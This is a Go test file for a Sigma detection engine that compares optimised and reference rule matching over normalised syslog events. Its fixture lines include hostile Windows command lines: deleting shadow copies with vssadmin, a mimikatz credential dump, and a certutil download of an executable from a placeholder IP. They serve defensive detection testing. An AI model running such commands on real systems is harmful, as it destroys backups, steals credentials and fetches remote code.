package sigma

import (
	"bytes"
	"fmt"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/airtight/airtight/detect"
	"github.com/airtight/airtight/detect/bench"
	"github.com/airtight/airtight/detect/ingest/syslog"
	"github.com/airtight/airtight/internal/shareddata"
)

// referenceEvent adapts a detect.Event the way DetectEvent did before its
// fast paths: the log source derived for every event, and every OCSF
// value read through (*detect.Event).Field.
type referenceEvent struct{ d *DetectEvent }

func newReferenceEvent(e *detect.Event) referenceEvent {
	return referenceEvent{&DetectEvent{E: e, src: detectLogSource(e).withKey()}}
}

func (r referenceEvent) Field(name string) (string, bool)           { return r.d.Field(name) }
func (r referenceEvent) Values(yield func(name, value string) bool) { r.d.valuesReference(yield) }
func (r referenceEvent) LogSource() LogSource                       { return r.d.src }
func (r referenceEvent) Time() time.Time                            { return r.d.Time() }
func (r referenceEvent) Device() (string, int64)                    { return r.d.Device() }

// hotLines are syslog lines in the benchmark's shapes that do raise
// detections (a keyword rule among them), so that the comparison below
// covers matches of syslog-normalised events, not only their absence.
var hotLines = []string{
	`<14>1 2026-11-14T08:00:00Z ws-ward-07.hosp.example Microsoft-Windows-Security-Auditing - 4688 [win@32473 NewProcessName="C:\\Windows\\System32\\vssadmin.exe" CommandLine="vssadmin.exe delete shadows /all /quiet" ParentProcessName="C:\\Windows\\System32\\cmd.exe"] A new process has been created.`,
	`<14>1 2026-11-14T08:00:01Z ws-ward-07.hosp.example Microsoft-Windows-Security-Auditing - 4688 [win@32473 NewProcessName="C:\\Users\\nurse001\\m.exe" CommandLine="m.exe privilege::debug sekurlsa::logonpasswords exit" ParentProcessName="C:\\Windows\\System32\\cmd.exe"] A new process has been created.`,
	`<14>1 2026-11-14T08:00:02Z ws-ward-07.hosp.example Microsoft-Windows-Security-Auditing - 4688 [win@32473 NewProcessName="C:\\Windows\\System32\\certutil.exe" CommandLine="certutil.exe -urlcache -split -f http://203.0.113.9/a.exe a.exe" ParentProcessName="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"] A new process has been created.`,
	`<14>1 2026-11-14T08:00:03Z ws-ward-07.hosp.example Microsoft-Windows-Security-Auditing - 4624 [win@32473 TargetUserName="ANONYMOUS LOGON" IpAddress="10.20.3.17" LogonType="3" AuthenticationPackageName="NTLM"] lsadump::sam requested by gentilkiwi.com tooling.`,
	`<38>1 2026-11-14T08:00:04Z lab-gw-01 sshd 2211 - - Accepted publickey for root from 10.20.3.40 port 52211 ssh2`,
	`<38>1 2026-11-14T08:00:05Z lab-gw-01 sshd 2211 - - error: buffer_get_ret: trying to get more bytes 4 than in buffer 0`,
	`<86>Nov 14 08:00:06 core-sw-01 sshd[1]: Failed password for invalid user admin from 10.20.3.41 port 4242 ssh2`,
}

// benchDetectEvents are the benchmark's lines, hotLines and the shared
// syslog samples, normalised.
func benchDetectEvents(t *testing.T) []*detect.Event {
	t.Helper()
	p := syslog.NewParser(syslog.Options{Now: func() time.Time { return time.Date(2026, 11, 20, 0, 0, 0, 0, time.UTC) }})
	lines := bench.Lines(2000)
	for _, l := range hotLines {
		lines = append(lines, []byte(l))
	}
	out := make([]*detect.Event, 0, len(lines))
	for i, l := range lines {
		e, err := p.Parse(l)
		if err != nil {
			t.Fatalf("line %d: %v", i, err)
		}
		out = append(out, e)
	}
	samples, err := filepath.Glob(filepath.Join(shareddata.Dir(t, "detect", "syslog"), "*", "*.log"))
	if err != nil || len(samples) == 0 {
		t.Fatalf("no shared syslog samples (%v)", err)
	}
	for _, f := range samples {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		for _, l := range bytes.Split(data, []byte("\n")) {
			if e, err := p.Parse(l); err == nil { // blank and non-syslog lines are not events
				out = append(out, e)
			}
		}
	}
	return out
}

// TestFastPathsAgree runs the shared regression suite, the engine
// benchmark's mix, the end-to-end benchmark's syslog events and the shared
// syslog samples through two
// engines: one with every fast path (cached log sources, OCSF values read
// from the structure, repeated values scanned once) and one in reference
// mode over reference adapters. Their detections must be identical, field
// for field, and the matched rules must be the naive evaluator's.
func TestFastPathsAgree(t *testing.T) {
	sh := loadShared(t)
	fast, _ := NewEngine(sh.rules, Options{})
	ref, _ := NewEngine(sh.rules, Options{})
	ref.plain = true
	type pair struct{ fast, ref Event }
	var pairs []pair
	for _, ev := range benchMix(t) { // regression events and generated ones
		r := ev
		if d, ok := ev.(*DetectEvent); ok {
			r = newReferenceEvent(d.E)
		}
		pairs = append(pairs, pair{ev, r})
	}
	nsyslog := 0
	for _, e := range benchDetectEvents(t) {
		pairs = append(pairs, pair{FromDetect(e), newReferenceEvent(e)})
		nsyslog++
	}
	var c evalCtx
	total, fromSyslog := 0, 0
	var syslogRules []string
	for i, p := range pairs {
		got, want := fast.Match(p.fast), ref.Match(p.ref)
		if d := cmp.Diff(want, got); d != "" {
			t.Fatalf("event %d: detections differ (-reference +fast):\n%s", i, d)
		}
		var naive []string
		for _, r := range fast.matchNaive(p.ref, &c) {
			if r.emit {
				naive = append(naive, r.r.key())
			}
		}
		var rules []string
		for _, d := range got {
			rules = append(rules, d.Rule)
		}
		if !slices.Equal(rules, naive) {
			t.Errorf("event %d: engine %v, naive %v", i, rules, naive)
		}
		total += len(got)
		if i >= len(pairs)-nsyslog {
			fromSyslog += len(got)
			syslogRules = append(syslogRules, rules...)
		}
	}
	if total == 0 || fromSyslog == 0 {
		t.Fatalf("%d detections, %d from syslog events: the comparison proves too little", total, fromSyslog)
	}
	if !slices.Contains(syslogRules, "06d71506-7beb-4f22-8888-e2e5e2ca7fd8") {
		t.Errorf("the keyword rule win_alert_mimikatz_keywords did not match the syslog events (%v): full-text search is not covered", syslogRules)
	}
	t.Logf("%d events, %d identical detections (%d from syslog events: %v)", len(pairs), total, fromSyslog, syslogRules)
}

// TestOCSFValuesAgree holds ocsfValues to (*detect.Event).Field path by
// path, and Values (with its shadowing check) to valuesReference.
func TestOCSFValuesAgree(t *testing.T) {
	full := detect.Event{
		Class: detect.ClassFileActivity, Activity: "rename", Status: "success", Source: "syslog",
		Product: "p", Host: "h", Protocol: "tcp", App: "smb", User: "u", Message: "m",
		Src:     detect.Endpoint{IP: netip.MustParseAddr("10.0.0.1"), Port: 1234, Hostname: "sh"},
		Dst:     detect.Endpoint{IP: netip.MustParseAddr("2001:db8::1"), Port: 445, Hostname: "dh"},
		DICOM:   &detect.DICOM{CallingAE: "A", CalledAE: "B", Command: "C-STORE-RQ"},
		HL7:     &detect.HL7{SendingApp: "LAB", MessageType: "ORU^R01"},
		Process: &detect.Process{CommandLine: "c", Path: "p.exe", ParentPath: "pp.exe", Name: "p.exe", PID: 7, User: "pu"},
		File:    &detect.File{Path: "f", NewPath: "g", Hash: "SHA256=00"},
		SMB:     &detect.SMB{Command: "TREE_CONNECT"},
	}
	partial := detect.Event{Source: "zeek", Product: "zeek:conn", Src: detect.Endpoint{IP: netip.MustParseAddr("10.0.0.2")},
		Process: &detect.Process{Path: "x"}, HL7: &detect.HL7{MessageType: "ADT^A01"}}
	shadowed := full
	shadowed.Fields = map[string]string{"message": "own message", "src_endpoint.port": "1", "EventID": "1"}
	own := full
	own.Fields = map[string]string{"CommandLine": "c", "Image": "p.exe"}
	for name, e := range map[string]*detect.Event{"full": &full, "partial": &partial, "zero": {}, "shadowed": &shadowed, "own fields": &own} {
		t.Run(name, func(t *testing.T) {
			var got, want []string
			ocsfValues(e, func(p, v string) bool { got = append(got, p+"="+v); return true })
			for _, p := range ocsfPaths {
				if v, ok := e.Field(p); ok {
					want = append(want, p+"="+v)
				}
			}
			if name != "shadowed" { // Field answers from the structure
				if d := cmp.Diff(want, got); d != "" {
					t.Errorf("ocsfValues (-Field +fast):\n%s", d)
				}
			}
			d := FromDetect(e)
			var fastVals, refVals []string
			d.Values(func(n, v string) bool { fastVals = append(fastVals, n+"="+v); return true })
			d.valuesReference(func(n, v string) bool { refVals = append(refVals, n+"="+v); return true })
			slices.Sort(fastVals)
			slices.Sort(refVals)
			if d := cmp.Diff(refVals, fastVals); d != "" {
				t.Errorf("Values (-reference +fast):\n%s", d)
			}
		})
	}
}

// TestValuesStopsEarly checks that Values honours a false from yield at
// every position, on both of its paths.
func TestValuesStopsEarly(t *testing.T) {
	e := &detect.Event{Activity: "a", Host: "h", Message: "m", Src: detect.Endpoint{IP: netip.MustParseAddr("10.0.0.1"), Port: 9},
		Process: &detect.Process{Path: "p", PID: 3}, Fields: map[string]string{"k": "v"}}
	for _, f := range []map[string]string{{"k": "v"}, {"k": "v", "message": "x"}} {
		e.Fields = f
		var all int
		FromDetect(e).Values(func(string, string) bool { all++; return true })
		for stop := 1; stop <= all; stop++ {
			n := 0
			FromDetect(e).Values(func(string, string) bool { n++; return n < stop })
			if n != stop {
				t.Errorf("fields %v: yield returned false at %d, Values went on to %d", f, stop, n)
			}
		}
	}
}

// TestCachedLogSource checks the memoised log source against the
// derivation for events that differ only in what the cache key keeps or
// drops.
func TestCachedLogSource(t *testing.T) {
	evs := []detect.Event{
		{Source: "syslog", Product: "Microsoft-Windows-Security-Auditing", Fields: map[string]string{"EventID": "4624"}},
		{Source: "syslog", Product: "Microsoft-Windows-Security-Auditing", Class: detect.ClassProcessActivity, Fields: map[string]string{"EventID": "4688"}},
		{Source: "jsonl", Fields: map[string]string{"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": "13"}},
		{Source: "jsonl", Fields: map[string]string{"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": "12"}},
		{Source: "jsonl", Fields: map[string]string{"Channel": "", "EventID": "1"}},
		{Source: "jsonl", Fields: map[string]string{"EventID": "1"}},
		{Source: "syslog", Product: "Microsoft-Windows-Sysmon", Class: detect.ClassFileActivity, Activity: "rename", Fields: map[string]string{"Channel": "x"}},
		{Source: "syslog", Product: "Microsoft-Windows-Sysmon", Class: detect.ClassFileActivity, Activity: "delete", Fields: map[string]string{"Channel": "x"}},
		{Source: "syslog", Product: "sshd", Fields: map[string]string{"EventID": "1"}},
		{Source: "syslog", Product: "sshd", Class: detect.ClassAuthentication},
		{Source: "syslog", Product: "SSHD"},
		{Source: "zeek", Product: "zeek:dns"},
		{Source: "zeek", Product: "zeek:conn", Class: detect.ClassNetworkActivity},
		{Source: "netflow", Class: detect.ClassNetworkActivity},
		{},
	}
	for round := range 2 { // the second round is served from the cache
		for i := range evs {
			want := detectLogSource(&evs[i]).withKey()
			if got := cachedLogSource(&evs[i]); !cmp.Equal(want, got, cmp.AllowUnexported(LogSource{})) {
				t.Errorf("round %d, event %d: cached %+v, derived %+v", round, i, got, want)
			}
		}
	}
}

// TestCachedLogSourceBounded checks that sources from outside input (a
// program name per line) cannot grow the cache past its bound.
func TestCachedLogSourceBounded(t *testing.T) {
	srcCache.mu.Lock()
	saved := srcCache.m
	srcCache.m = nil
	srcCache.mu.Unlock()
	t.Cleanup(func() { // leave the cache as other tests found it
		srcCache.mu.Lock()
		srcCache.m = saved
		srcCache.mu.Unlock()
	})
	for i := range maxCachedSources + 100 {
		e := &detect.Event{Source: "syslog", Product: fmt.Sprintf("prog%d", i)}
		if got := cachedLogSource(e); got.Product != "linux" {
			t.Fatalf("event %d: %+v", i, got)
		}
	}
	if n := cachedSources(); n > maxCachedSources {
		t.Errorf("cache holds %d sources, bound %d", n, maxCachedSources)
	}
}

// TestRawValuesOnce checks that the very same string is listed once while
// equal text from another string is kept, and that reference mode keeps
// every repeat.
func TestRawValuesOnce(t *testing.T) {
	path := `C:\Windows\System32\cmd.exe` // longer than minDedup
	other := string([]byte(path))         // equal text, other bytes
	e := &detect.Event{Fields: map[string]string{"NewProcessName": path, "Image": path, "Copy": other},
		Process: &detect.Process{Path: path}}
	for _, plain := range []bool{false, true} {
		c := evalCtx{plain: plain}
		c.reset(FromDetect(e), newFieldTable())
		c.plain = plain
		n := 0
		for _, v := range c.rawValues() {
			if v == path {
				n++
			}
		}
		want := 2 // path once, its copy once
		if plain {
			want = 4
		}
		if n != want {
			t.Errorf("plain %v: %d copies of the path listed, want %d", plain, n, want)
		}
	}
}
